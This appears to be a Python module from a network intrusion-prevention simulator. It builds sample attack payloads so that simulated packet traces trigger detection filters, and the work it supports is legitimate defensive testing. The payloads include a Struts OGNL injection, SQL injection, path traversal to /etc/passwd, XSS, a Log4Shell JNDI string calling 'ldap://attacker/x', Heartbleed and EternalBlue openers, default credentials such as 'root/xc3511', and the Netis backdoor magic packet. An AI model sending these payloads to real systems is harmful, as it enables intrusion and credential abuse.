"""What the attacker sent: an application payload for each filter of the catalogue, well-formed
enough that tshark dissects it cleanly (a DNS query, an SNMP GetRequest, a TLS ClientHello, an
SMB negotiate, ...) and telling enough that a reader of the trace sees why the filter fired.
Pure: an event in, a list of messages out.

A message goes from the client (the event's source) or from the server (its destination);
most exchanges are one client message, a few (MySQL) start with the server's greeting.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass

from ipsim import ber
from ipsim.traffic import AttackEvent

CLIENT = "client"
SERVER = "server"


@dataclass(frozen=True, slots=True)
class Message:
    sender: str  # CLIENT or SERVER
    data: bytes


def _http(request_line: str, host: str, *headers: str, body: str = "") -> bytes:
    lines = [request_line, f"Host: {host}", *headers]
    if body:
        lines += ["Content-Type: text/xml", f"Content-Length: {len(body.encode())}"]
    lines += ["Accept: */*", "Connection: close"]
    return ("\r\n".join(lines) + "\r\n\r\n" + body).encode()


def _http_for(event: AttackEvent) -> bytes:
    host = event.dst_ip if ":" not in event.dst_ip else f"[{event.dst_ip}]"
    agent = "User-Agent: Mozilla/5.0 (compatible; scanner)"
    number = event.filter_number
    if number == 7610:  # Struts OGNL in the Content-Type
        return _http(
            "GET /struts2-showcase/index.action HTTP/1.1",
            host,
            agent,
            "Content-Type: %{(#_='multipart/form-data').(#cmd='id')}",
        )
    if number == 3593:
        return _http(
            "GET /products.php?id=1%20UNION%20SELECT%20user,password%20FROM%20users-- HTTP/1.1",
            host,
            agent,
        )
    if number == 4316:
        return _http("GET /static/../../../../etc/passwd HTTP/1.1", host, agent)
    if number == 12281:
        return _http("GET /search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E HTTP/1.1", host, agent)
    if number == 28763:
        return _http("GET /api/login HTTP/1.1", host, "User-Agent: ${jndi:ldap://attacker/x}")
    if number == 33445:
        call = (
            '<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName>'
            "<params><param><value><array><data></data></array></value></param></params>"
            "</methodCall>"
        )
        return _http("POST /xmlrpc.php HTTP/1.1", host, agent, body=call)
    return _http("GET / HTTP/1.1", host, agent)


def _tls_client_hello(server_name: str, *, heartbeat: bool = False) -> bytes:
    """A TLS 1.2 ClientHello with SNI (and the heartbeat extension, Heartbleed's way in)."""
    name = server_name.encode()
    sni_list = struct.pack("!BH", 0, len(name)) + name
    extensions = struct.pack("!HHH", 0x0000, len(sni_list) + 2, len(sni_list)) + sni_list
    if heartbeat:
        extensions += struct.pack("!HHB", 0x000F, 1, 1)  # heartbeat: peer allowed to send
    ciphers = struct.pack("!HHHH", 0xC02F, 0xC030, 0x009C, 0x002F)
    body = (
        struct.pack("!H", 0x0303)
        + bytes(range(32))  # client random
        + b"\x00"  # no session id
        + struct.pack("!H", len(ciphers))
        + ciphers
        + b"\x01\x00"  # one compression method: null
        + struct.pack("!H", len(extensions))
        + extensions
    )
    handshake = b"\x01" + len(body).to_bytes(3, "big") + body
    return struct.pack("!BHH", 0x16, 0x0301, len(handshake)) + handshake


def _smb_negotiate() -> bytes:
    """SMB1 Negotiate Protocol Request over NetBIOS session service (EternalBlue's opener)."""
    dialects = b"\x02NT LM 0.12\x00"
    smb = (
        b"\xffSMB"
        + struct.pack("<BIBHHQHHHHH", 0x72, 0, 0x18, 0xC853, 0, 0, 0, 0, 0xFEFF, 0, 0)
        + b"\x00"  # word count
        + struct.pack("<H", len(dialects))
        + dialects
    )
    return struct.pack("!BxH", 0, len(smb)) + smb


def _rdp_connection_request(cookie: str) -> bytes:
    """TPKT + X.224 Connection Request with an mstshash cookie (the user being tried)."""
    data = f"Cookie: mstshash={cookie}\r\n".encode() + struct.pack("<BBHI", 1, 0, 8, 3)
    x224 = struct.pack("!BBHHB", 6 + len(data), 0xE0, 0, 0, 0) + data
    return struct.pack("!BBH", 3, 0, 4 + len(x224)) + x224


def _tds_prelogin() -> bytes:
    """An MS-SQL TDS PRELOGIN packet (version, encryption, instance, thread id, MARS)."""
    values = [
        (0x00, struct.pack("!IH", 0x0F000000, 0)),  # version 15.0
        (0x01, b"\x00"),  # encryption off
        (0x02, b"\x00"),  # instance: default
        (0x03, struct.pack("!I", 4242)),
        (0x04, b"\x00"),  # MARS off
    ]
    offset = len(values) * 5 + 1
    options, data = b"", b""
    for token, value in values:
        options += struct.pack("!BHH", token, offset + len(data), len(value))
        data += value
    payload = options + b"\xff" + data
    return struct.pack("!BBHHBB", 0x12, 0x01, 8 + len(payload), 0, 1, 0) + payload


def _mysql_packet(sequence: int, body: bytes) -> bytes:
    return len(body).to_bytes(3, "little") + bytes([sequence]) + body


def _mysql_exchange() -> list[Message]:
    """The server's greeting, then a root login with an empty password."""
    greeting = (
        b"\x0a5.7.40\x00"
        + struct.pack("<I", 11)  # connection id
        + b"abcdefgh\x00"  # first part of the salt
        + struct.pack("<HBHH", 0xF7FF, 0x21, 0x0002, 0x81FF)
        + b"\x15"  # length of the auth data
        + bytes(10)
        + b"ijklmnopqrst\x00"
        + b"mysql_native_password\x00"
    )
    login = (
        struct.pack("<IIB", 0x000FA685, 16_777_216, 0x21)
        + bytes(23)
        + b"root\x00"
        + b"\x00"  # empty auth response: no password
        + b"mysql_native_password\x00"
    )
    return [Message(SERVER, _mysql_packet(0, greeting)), Message(CLIENT, _mysql_packet(1, login))]


def _dns_query(name: str, ident: int) -> bytes:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 0) + labels + b"\x00\x00\x01\x00\x01"


def _snmp_get(community: str, request_id: int) -> bytes:
    """An SNMPv1 GetRequest for sysDescr.0."""
    varbinds = ber.encode_varbinds([((1, 3, 6, 1, 2, 1, 1, 1, 0), ber.null())])
    ids = ber.encode_int(request_id) + ber.encode_int(0) + ber.encode_int(0)
    pdu = ber.tlv(0xA0, ids + varbinds)
    return ber.encode_sequence(ber.encode_int(0), ber.encode_octets(community.encode()), pdu)


def _sip_options(event: AttackEvent) -> bytes:
    src, dst = event.src_ip, event.dst_ip
    lines = [
        f"OPTIONS sip:100@{dst} SIP/2.0",
        f"Via: SIP/2.0/UDP {src}:{event.src_port};branch=z9hG4bK-{event.seq}",
        "Max-Forwards: 70",
        f"To: <sip:100@{dst}>",
        f"From: <sip:100@{src}>;tag={event.seq:x}",
        f"Call-ID: {event.seq}@{src}",
        "CSeq: 1 OPTIONS",
        "Contact: <sip:100@" + src + ">",
        "User-Agent: friendly-scanner",
        "Accept: application/sdp",
        "Content-Length: 0",
    ]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def _bittorrent_handshake() -> bytes:
    return b"\x13BitTorrent protocol" + bytes(8) + bytes(range(20)) + b"-qB4250-ipsimpeer000"


def _stratum_subscribe() -> bytes:
    return b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"agent":"XMRig/6.16.4"}}\n'


def messages(event: AttackEvent) -> list[Message]:
    """The application messages of ``event``'s exchange; empty for a bare probe."""
    number, port = event.filter_number, event.dst_port
    if event.protocol == "tcp":
        if number == 7121:  # a port scan sends no data
            return []
        if port in (80, 8080):
            return [Message(CLIENT, _http_for(event))]
        if port == 443:
            names = {11475: "login.micros0ft-online.example", 31790: "autodiscover.example.com"}
            name = names.get(number, "www.example.com")
            hello = _tls_client_hello(name, heartbeat=number == 8204)
            return [Message(CLIENT, hello)]
        if port == 445:
            return [Message(CLIENT, _smb_negotiate())]
        if port == 3389:
            return [Message(CLIENT, _rdp_connection_request("administrator"))]
        if port == 22:
            return [Message(CLIENT, b"SSH-2.0-libssh2_1.8.0\r\n")]
        if port == 23:
            return [Message(CLIENT, b"root\r\nxc3511\r\n")]
        if port == 1433:
            return [Message(CLIENT, _tds_prelogin())]
        if port == 3306:
            return _mysql_exchange()
        if port == 6881:
            return [Message(CLIENT, _bittorrent_handshake())]
        if port == 3333:
            return [Message(CLIENT, _stratum_subscribe())]
        return [Message(CLIENT, f"{event.filter_name}\r\n".encode())]
    if event.protocol == "udp":
        if number == 7122:  # a UDP port scan: empty probes
            return []
        if port == 53:
            name = (
                "update.malware-c2.example"
                if number == 16740
                else ".".join(["a" * 63] * 3) + ".example"
            )
            return [Message(CLIENT, _dns_query(name, event.seq & 0xFFFF))]
        if port == 161:
            return [Message(CLIENT, _snmp_get("public", event.seq & 0x7FFFFFFF))]
        if port == 69:
            return [Message(CLIENT, b"\x00\x01running-config\x00octet\x00")]
        if port == 5060:
            return [Message(CLIENT, _sip_options(event))]
        if port == 53413:  # the Netis backdoor's magic
            return [Message(CLIENT, b"AA\x00\x00AAAA netcore\x00")]
        return [Message(CLIENT, f"{event.filter_name}\r\n".encode())]
    return []
